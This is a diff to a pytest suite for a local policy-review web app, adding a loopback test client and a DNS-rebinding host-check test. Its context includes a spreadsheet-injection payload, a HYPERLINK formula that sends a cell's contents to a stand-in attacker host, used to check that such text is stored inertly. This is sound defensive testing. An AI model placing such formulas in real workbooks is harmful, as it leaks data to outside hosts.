@@ -44,6 +44,11 @@ def run_dir(scored, tmp_path):
     return dest
 
 
+def client(app, **kw):
+    """A test client that talks to the app as a browser on this machine does (Host: 127.0.0.1)."""
+    return TestClient(app, base_url="http://127.0.0.1", **kw)
+
+
 def scores(run_dir):
     return pd.read_csv(run_dir / "policy_scores.csv", dtype=str, keep_default_na=False)
 
@@ -66,7 +71,7 @@ def listed(html):
 
 
 def test_list_is_flagged_policies_in_priority_order(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     s = scores(run_dir)
     flagged = s[s["flag"] != ""].assign(p=lambda d: d["priority"].astype(int)).sort_values("p")
     ids = listed(c.get("/").text)
@@ -77,7 +82,7 @@ def test_list_is_flagged_policies_in_priority_order(run_dir):
 
 
 def test_filters_narrow_the_list(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     s = scores(run_dir).set_index("policy_id")
     insurer = s.loc[s["flag"] != "", "insurer_id"].mode()[0]
     ids = listed(c.get(f"/?insurer={insurer}").text)
@@ -96,7 +101,7 @@ def test_filters_narrow_the_list(run_dir):
 
 
 def test_policy_page_shows_evidence(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     s = scores(run_dir)
     pid = s.loc[(s["flag"] != "") & (s["rule_codes"] != ""), "policy_id"].iloc[0]
     html = c.get(f"/policy/{pid}").text
@@ -110,7 +115,7 @@ def test_policy_page_shows_evidence(run_dir):
 
 
 def test_record_change_and_export_keep_history(run_dir, tmp_path):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     pid = scores(run_dir)["policy_id"].iloc[0]
     r = post(c, pid, outcome="poor_quality", selection="random", notes="现场无培训签到表")
     assert r.status_code == 303 and r.headers["location"].endswith("saved=1")
@@ -132,7 +137,7 @@ def test_record_change_and_export_keep_history(run_dir, tmp_path):
 
 
 def test_invalid_verdict_is_refused_with_reasons(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     pid = scores(run_dir)["policy_id"].iloc[0]
     future = (dt.date.today() + dt.timedelta(days=3)).isoformat()
     r = post(c, pid, outcome="fine", inspection_date=future, inspector_org="")
@@ -142,7 +147,7 @@ def test_invalid_verdict_is_refused_with_reasons(run_dir):
 
 
 def test_token_is_required_when_configured(run_dir):
-    c = TestClient(create_app(run_dir, token="s3cret-token"))
+    c = client(create_app(run_dir, token="s3cret-token"))
     assert c.get("/").status_code == 401
     assert c.get("/", headers={"Authorization": "Bearer wrong"}).status_code == 401
     assert c.get("/export.csv").status_code == 401
@@ -153,10 +158,10 @@ def test_token_is_required_when_configured(run_dir):
 
 
 def test_csrf_is_refused(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     pid = scores(run_dir)["policy_id"].iloc[0]
     assert post(c, pid, token="").status_code == 403
-    other = TestClient(create_app(run_dir))
+    other = client(create_app(run_dir))
     foreign = csrf(other, pid)  # a token of another session
     assert post(c, pid, token=foreign).status_code == 403
     good = csrf(c, pid)
@@ -168,7 +173,7 @@ def test_csrf_is_refused(run_dir):
 
 
 def test_hostile_text_is_escaped(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     pid = world(600, 21).tables["policies"]["policy_id"].iloc[0]
     assert post(c, pid, notes=HOSTILE, inspector_org=HOSTILE).status_code == 303
     for html in (c.get(f"/policy/{pid}").text, c.get("/?flag=all&status=reviewed").text):
@@ -183,7 +188,7 @@ def test_concurrent_verdicts_lose_nothing(run_dir):
     errors = []
 
     def reviewer(name, outcome):
-        c = TestClient(app)
+        c = client(app)
         for pid in ids:
             for date in ("2025-11-01", "2025-11-02"):
                 r = post(c, pid, outcome=outcome, reviewer=name, inspection_date=date)
@@ -203,7 +208,7 @@ def test_concurrent_verdicts_lose_nothing(run_dir):
 
 
 def test_stats_count_confirmations(run_dir):
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     s = scores(run_dir)
     miss = list(s.loc[s["flag"] == "missing", "policy_id"][:3])
     assert post(c, miss[0], outcome="missing").status_code == 303
@@ -291,7 +296,7 @@ def test_cli_review_commands(run_dir, tmp_path):
 
 def test_labelled_export_is_a_submission_ready_for_retraining(run_dir, scored, tmp_path):
     sub, _ = scored
-    c = TestClient(create_app(run_dir, submission=sub))
+    c = client(create_app(run_dir, submission=sub))
     ids = list(scores(run_dir)["policy_id"][:3])
     for pid, outcome in zip(ids, ("missing", "adequate", "poor_quality")):
         assert post(c, pid, outcome=outcome, selection="random").status_code == 303
@@ -317,7 +322,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"点此查看")', "=1+1", "=c
 def test_workbook_writes_formula_like_text_as_text_and_reads_it_back(run_dir, tmp_path):
     """Free text that starts with "=" (notes, inspector organisation, a name) is stored as text, never
     as a live formula, and comes back unchanged on import and in the next workbook."""
-    c = TestClient(create_app(run_dir))
+    c = client(create_app(run_dir))
     s = scores(run_dir)
     pid = s.loc[s["flag"] != "", "policy_id"].iloc[0]
     assert post(c, pid, inspector_org=FORMULAS[2], notes=FORMULAS[0]).status_code == 303
@@ -341,3 +346,18 @@ def test_workbook_writes_formula_like_text_as_text_and_reads_it_back(run_dir, tm
     write_workbook(run, store, again)
     cells = [cell for row in openpyxl.load_workbook(again)[SHEET].iter_rows() for cell in row]
     assert FORMULAS[1] in [cell.value for cell in cells] and not [cell for cell in cells if cell.data_type == "f"]
+
+
+@pytest.mark.parametrize("host,token,status", [
+    ("evil.example", None, 421), ("evil.example:8000", None, 421), ("127.0.0.1:8000", None, 200),
+    ("localhost", None, 200), ("[::1]:8000", None, 200), ("review.example.gov.cn", "t0k", 200),
+    ("evil.example", "t0k", 421),
+])
+def test_only_bound_host_names_are_answered(run_dir, host, token, status):
+    """A DNS-rebinding page reaches the loopback app under its own name and is refused."""
+    app = create_app(run_dir, token=token, host="review.example.gov.cn" if token else "127.0.0.1")
+    c = TestClient(app, base_url=f"http://{host}")
+    r = c.get("/" + (f"?token={token}" if token else ""), follow_redirects=False)
+    assert r.status_code in ((200, 303) if status == 200 else (status,)), r.text[:200]
+    if status == 421:
+        assert "Host" in r.text and "主机名" in r.text
